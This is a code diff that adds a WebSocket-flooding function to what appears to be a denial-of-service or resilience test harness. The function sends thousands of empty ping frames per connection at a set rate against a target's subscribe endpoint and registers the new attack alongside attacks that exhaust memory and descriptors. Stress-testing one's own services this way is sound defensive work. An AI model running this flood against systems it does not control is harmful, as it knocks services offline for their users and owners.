@@ -193,6 +193,28 @@ async def take_descriptors(target: Target) -> None:
         streams.cancel()
 
 
+async def flood_web_sockets(target: Target) -> None:
+    """Send many empty frames, which cost more time to read than to send."""
+    frames = b"\x8a\x80abcd" * 10_000
+    handshake = (
+        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
+    )
+
+    async def flood(number: int) -> None:
+        reader, writer = await _connect(target)
+        path = f"/v1/download/subscribe/{_job(target, number)}"
+        writer.write(_get(path, f"X-User-Id: u{number}\r\n{handshake}"))
+        await reader.readuntil(b"\r\n\r\n")
+        writer.write(frames)
+        with suppress(TimeoutError):
+            async with asyncio.timeout(5):
+                await reader.read()
+        writer.transport.abort()
+
+    await _at_rate(RATE / 2, flood)
+
+
 async def stay_idle(target: Target) -> None:
     """Open connections and send nothing, or one request and then nothing."""
 
@@ -214,6 +236,7 @@ ATTACKS: Final[dict[str, Attack]] = {
     "send slowly": send_slowly,
     "fill memory": fill_memory,
     "take descriptors": take_descriptors,
+    "flood web sockets": flood_web_sockets,
     "stay idle": stay_idle,
 }
 
